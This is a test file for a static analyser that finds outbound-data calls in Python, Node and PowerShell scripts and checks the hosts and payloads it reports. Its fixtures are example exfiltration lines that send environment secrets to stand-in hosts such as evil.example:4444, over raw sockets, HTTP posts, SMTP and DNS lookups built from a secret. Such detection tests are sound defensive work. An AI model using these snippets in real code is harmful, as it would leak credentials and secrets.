import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { matchCall } from '../../../src/analysis/sinks/index.js';
import { call, list, obj, script, v } from '../ir-builders.js';
import { one, sinks, summarise } from './helpers.js';

describe('python HTTP and sockets', () => {
  it('requests.post: URL, data and headers', async () => {
    const s = await one(
      'import requests, os\nrequests.post("https://h.example/x", data={"t": os.environ["T"]}, headers={"A": "b"})',
      'python',
    );
    assert.equal(s.tool, 'requests.post');
    assert.deepEqual(s.hosts, ['h.example']);
    assert.equal(s.payload.length, 3);
  });
  it('requests.request(method, url) and Session methods', async () => {
    assert.deepEqual(
      (await one('import requests\nrequests.request("PUT", "https://r.example", json=x)', 'python')).hosts,
      ['r.example'],
    );
    const all = await sinks(
      'import requests\ns = requests.Session()\ns.post("https://s.example", json={"a": 1})',
      'python',
    );
    assert.deepEqual(
      all.map((x) => x.hosts),
      [['s.example']],
    );
  });
  it('httpx with base_url', async () => {
    const all = await sinks(
      'import httpx\nc = httpx.Client(base_url="https://api.example")\nc.post("/v1/x", content=t)',
      'python',
    );
    assert.deepEqual(
      all.map((x) => x.hosts),
      [['api.example']],
    );
  });
  it('urllib Request + urlopen reports the Request', async () => {
    const all = await sinks(
      'import urllib.request as ur\nreq = ur.Request("https://r.example", data=b"x")\nur.urlopen(req)',
      'python',
    );
    assert.deepEqual(
      all.map((x) => x.hosts),
      [['r.example']],
    );
    assert.deepEqual(
      (await one('import urllib.request\nurllib.request.urlopen("https://u.example/?t=" + t)', 'python'))
        .hosts,
      ['u.example'],
    );
  });
  it('http.client connection host with request body', async () => {
    const all = await sinks(
      'import http.client, os\nc = http.client.HTTPSConnection("hc.example")\nc.request("POST", "/p", body=os.environ["T"])',
      'python',
    );
    assert.deepEqual(
      all.map((x) => x.hosts),
      [['hc.example']],
    );
    assert.ok(all[0]?.payload.some((p) => p.includes('environ')));
  });
  it('socket connect + sendall', async () => {
    const all = await sinks(
      'import socket, os\nsk = socket.socket()\nsk.connect(("evil.example", 4444))\nsk.sendall(os.environ["T"].encode())',
      'python',
    );
    assert.deepEqual(
      all.map((x) => [x.tool, x.hosts]),
      [
        ['socket.socket.connect', ['evil.example:4444']],
        ['socket.socket.sendall', ['evil.example:4444']],
      ],
    );
  });
  it('DNS lookups of a name built from a secret', async () => {
    const s = await one(
      'import socket, os\nsocket.gethostbyname(os.environ["T"] + ".evil.example")',
      'python',
    );
    assert.equal(s.channel, 'dns');
    assert.deepEqual(s.hosts, ['evil.example']);
  });
  it('smtplib session', async () => {
    const all = await sinks(
      'import smtplib\ns = smtplib.SMTP("smtp.evil.example", 587)\ns.sendmail("a", "b", msg)',
      'python',
    );
    assert.deepEqual(
      all.map((x) => x.hosts),
      [['smtp.evil.example'], ['smtp.evil.example']],
    );
  });
  it('socket.sendto with an address tuple (built IR)', () => {
    const op = call('socket.socket.sendto', [v('DATA'), list('10.9.8.7', '53')]);
    const [s] = matchCall(op, script([op], 'python')).map(summarise);
    assert.deepEqual(s?.hosts, ['10.9.8.7:53']);
    assert.ok(s?.payload.some((p) => p.includes('DATA')));
  });
});

describe('node HTTP and sockets', () => {
  it('fetch with a body', async () => {
    const s = await one(
      'await fetch("https://f.example/x", { method: "POST", body: JSON.stringify(process.env) });',
      'javascript',
    );
    assert.equal(s.tool, 'fetch');
    assert.deepEqual(s.hosts, ['f.example']);
    assert.ok(s.payload.some((p) => p.includes('process.env')));
  });
  it('https.request options object, then req.write', async () => {
    const all = await sinks(
      'const https = require("https");\nconst req = https.request({ hostname: "h.example", port: 443, path: "/p", method: "POST" });\nreq.write(process.env.T);\nreq.end();',
      'javascript',
    );
    assert.deepEqual(
      all.map((x) => x.hosts),
      [['h.example:443'], ['h.example:443'], ['h.example:443']],
    );
  });
  it('github.request to a full URL goes there; routes go to the GitHub API', async () => {
    const s = await one(
      'await github.request("POST https://evil.example/x", { data: process.env.T });',
      'javascript',
    );
    assert.deepEqual(s.hosts, ['evil.example']);
    assert.deepEqual(
      (await one('await github.request("GET /repos/{owner}/{repo}", {});', 'javascript')).hosts,
      ['default:api.github.com'],
    );
    assert.deepEqual(
      (await one('await github.rest.issues.create({ owner: "o", repo: "r", body: x });', 'javascript')).hosts,
      ['default:api.github.com'],
    );
  });
  it('net.connect + write', async () => {
    const all = await sinks(
      'const net = require("net"); const c = net.connect(4444, "evil.example"); c.write(process.env.T);',
      'javascript',
    );
    assert.deepEqual(
      all.map((x) => x.hosts),
      [['evil.example:4444'], ['evil.example:4444']],
    );
  });
  it('axios and got', async () => {
    const a = await one(
      'const axios = require("axios"); axios.post("https://ax.example", { t: process.env.T });',
      'javascript',
    );
    assert.deepEqual(a.hosts, ['ax.example']);
    assert.ok(a.payload.some((p) => p.includes('process.env.T')));
    assert.deepEqual(
      (await one('await got.post("https://got.example", { json: { t } });', 'javascript')).hosts,
      ['got.example'],
    );
  });
  it('axios(config) (built IR)', () => {
    const op = call('axios', [obj({ url: 'https://cfg.example/x', data: v('T') })]);
    const [s] = matchCall(op, script([op], 'javascript')).map(summarise);
    assert.deepEqual(s?.hosts, ['cfg.example']);
    assert.ok(s?.payload.some((p) => p.includes('T')));
  });
});

describe('PowerShell', () => {
  it('Invoke-WebRequest -Uri -Body', async () => {
    const s = await one(
      'Invoke-WebRequest -Uri "https://w.example/x" -Method Post -Body $env:T',
      'powershell',
    );
    assert.deepEqual(s.hosts, ['w.example']);
    assert.ok(s.payload.some((p) => p.includes('T')));
  });
  it('irm positional URI with -Headers, and parameter prefixes', async () => {
    const s = await one(
      'irm https://r.example -Meth Post -Head @{ Authorization = "Bearer $env:T" }',
      'powershell',
    );
    assert.deepEqual(s.hosts, ['r.example']);
    assert.ok(s.payload.some((p) => p.includes('T')));
  });
  it('WebClient.UploadString', async () => {
    const all = await sinks(
      '$wc = New-Object System.Net.WebClient\n$wc.UploadString("https://wc.example", $env:T)',
      'powershell',
    );
    assert.deepEqual(
      all.map((x) => x.hosts),
      [['wc.example']],
    );
  });
  it('TcpClient via New-Object and a stream write', async () => {
    const all = await sinks(
      '$c = New-Object System.Net.Sockets.TcpClient("evil.example", 4444)\n$s = $c.GetStream(); $s.Write($b, 0, $b.Length)',
      'powershell',
    );
    assert.deepEqual(
      all.map((x) => x.hosts),
      [['evil.example:4444'], ['evil.example:4444']],
    );
  });
  it('DNS: Resolve-DnsName and [Net.Dns]', async () => {
    assert.deepEqual(
      (await one('Resolve-DnsName -Name "x.evil.example" -Server 1.1.1.1', 'powershell')).hosts,
      ['evil.example', '1.1.1.1'],
    );
    assert.deepEqual(
      (await one('[System.Net.Dns]::GetHostAddresses("$env:T.evil.example")', 'powershell')).hosts,
      ['evil.example'],
    );
  });
  it('HttpClient.PostAsync (built IR)', () => {
    const op = call('System.Net.Http.HttpClient.PostAsync', ['https://hc.example/x', v('CONTENT')]);
    const [s] = matchCall(op, script([op], 'powershell')).map(summarise);
    assert.deepEqual(s?.hosts, ['hc.example']);
  });
});
